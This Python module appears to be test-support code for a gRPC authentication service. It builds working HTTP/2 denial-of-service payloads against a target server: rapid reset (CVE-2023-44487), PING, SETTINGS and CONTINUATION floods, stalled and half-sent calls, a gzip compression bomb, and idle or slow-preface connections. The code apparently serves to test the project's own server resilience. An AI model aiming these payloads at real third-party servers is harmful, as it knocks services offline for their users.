"""Attacks on an HTTP/2 server: what they send is made beforehand, so that sending it is cheap."""

import asyncio
import struct
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Callable
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field

from hpack import Encoder
from hyperframe.frame import DataFrame

from keywright.v1 import auth_service_pb2
from tests.support.http2 import (
    PING,
    PREFACE,
    SETTINGS,
    Connection,
    connection,
    continuation,
    request_headers,
    request_message,
    reset,
    unfinished_headers,
)

AUTHENTICATE = "/keywright.v1.AuthService/Authenticate"
# How many connections are opened at once: fewer than wait in the kernel for the server (somaxconn).
_OPENED_AT_ONCE = 100
_MEBIBYTE = bytes(2**20)
_WINDOW_BYTES = 2**16 - 1  # of a stream, before its server says more (RFC 9113, section 6.9.2)
_LONGEST_FRAME = 2**14


@dataclass(frozen=True)
class Attack:
    """What is sent on each of a number of connections.

    Attributes:
        content: what follows `first`.
        frames: how many frames that is.
        first: preface and SETTINGS, or what there is of them.
        waits: whether it does nothing more than to wait for the end of its connections.
    """

    name: str
    frames: int = 0
    content: bytes = field(default=b"", repr=False)
    connections: int = 1
    first: bytes = PREFACE + SETTINGS
    waits: bool = False

    @asynccontextmanager
    async def connected(self, target: str) -> AsyncIterator[list[Connection]]:
        """All its connections, opened."""
        async with AsyncExitStack() as stack:
            opened: list[Connection] = []
            while (left := self.connections - len(opened)) > 0:
                opened += await asyncio.gather(
                    *(
                        stack.enter_async_context(connection(target, self.first))
                        for _ in range(min(left, _OPENED_AT_ONCE))
                    )
                )
            yield opened

    async def run(self, target: str) -> "Outcome":
        """Attack until the server has read all that is sent, or ended the connection."""
        async with self.connected(target) as connections:

            async def run(one: Connection) -> None:
                if self.waits:
                    await one.over.wait()
                    return
                await one.send(self.content)
                await one.processed()

            await asyncio.gather(*map(run, connections))
            return Outcome.of(connections)


@dataclass(frozen=True)
class Outcome:
    """What became of an attack.

    Attributes:
        received: the frames that the server sent, on all connections.
        ended: how many connections it has ended.
    """

    received: Counter[str]
    ended: int

    @classmethod
    def of(cls, connections: list[Connection]) -> "Outcome":
        """Sum up."""
        return cls(
            sum((each.received for each in connections), Counter()),
            sum(each.over.is_set() for each in connections),
        )


def rapid_reset(count: int, connections: int = 1) -> Attack:
    """Whole calls, each taken back at once (CVE-2023-44487)."""
    body = auth_service_pb2.AuthenticateRequest(token="x").SerializeToString()

    def call(encoder: Encoder, stream: int) -> bytes:
        headers = request_headers(encoder, stream, AUTHENTICATE)
        return headers + request_message(stream, body) + reset(stream)

    return Attack("rapid reset", 3 * count, _calls(count, call), connections)


def open_calls(count: int, connections: int = 1) -> Attack:
    """Calls whose message never comes."""

    def call(encoder: Encoder, stream: int) -> bytes:
        return request_headers(encoder, stream, AUTHENTICATE)

    return Attack("calls without a message", count, _calls(count, call), connections)


def half_messages(count: int, connections: int) -> Attack:
    """Calls whose message is long, and comes as far as it may before anybody takes it."""
    beginning = struct.pack(">BI", False, 4_000_000) + bytes(_WINDOW_BYTES - 5)
    starts = range(0, _WINDOW_BYTES, _LONGEST_FRAME)

    def call(encoder: Encoder, stream: int) -> bytes:
        parts = (beginning[start : start + _LONGEST_FRAME] for start in starts)
        body = b"".join(DataFrame(stream, part).serialize() for part in parts)
        return request_headers(encoder, stream, AUTHENTICATE) + body

    return Attack("half messages", 5 * count, _calls(count, call), connections)


def pings(count: int, connections: int = 1) -> Attack:
    """PINGs, each of which has to be answered (CVE-2019-9512)."""
    return Attack("PING flood", count, PING * count, connections)


def settings(count: int, connections: int = 1) -> Attack:
    """SETTINGS, each of which has to be acknowledged (CVE-2019-9515)."""
    return Attack("SETTINGS flood", count, SETTINGS * count, connections)


def continuations(count: int) -> Attack:
    """Headers without an end (VU#421644): 15 KiB of them in each frame."""
    headers = b"".join(b"\x00\x04x%03d\x64%s" % (number, b"a" * 100) for number in range(145))
    begin = unfinished_headers(Encoder(), 1, AUTHENTICATE)
    return Attack("CONTINUATION flood", count + 1, begin + continuation(1, headers) * count)


def empty_continuations(count: int) -> Attack:
    """The same with nothing in them."""
    begin = unfinished_headers(Encoder(), 1, AUTHENTICATE)
    return Attack("CONTINUATION flood, empty", count + 1, begin + continuation(1, b"") * count)


def compression_bomb(mebibytes: int) -> Attack:
    """One request that is a thousand times as long once it is inflated."""
    deflate = zlib.compressobj(9, wbits=31)
    body = b"".join([*(deflate.compress(_MEBIBYTE) for _ in range(mebibytes)), deflate.flush()])
    headers = request_headers(Encoder(), 1, AUTHENTICATE, grpc_encoding="gzip")
    content = headers + request_message(1, body, compressed=True)
    return Attack(f"compression bomb, {mebibytes} MiB", _frames(content), content)


def idle(connections: int) -> Attack:
    """Connections on which nothing is said."""
    return Attack("idle connections", connections=connections, waits=True)


def slow_preface(connections: int) -> Attack:
    """Connections on which the first words are not finished."""
    return Attack("slow preface", connections=connections, first=PREFACE[:10], waits=True)


def _calls(count: int, call: Callable[[Encoder, int], bytes]) -> bytes:
    encoder = Encoder()  # which indexes the headers of the first, so that the others are short
    return b"".join(call(encoder, stream) for stream in range(1, 2 * count, 2))


def _frames(content: bytes) -> int:
    frames = start = 0
    while start < len(content):
        frames, start = frames + 1, start + 9 + int.from_bytes(content[start : start + 3], "big")
    return frames
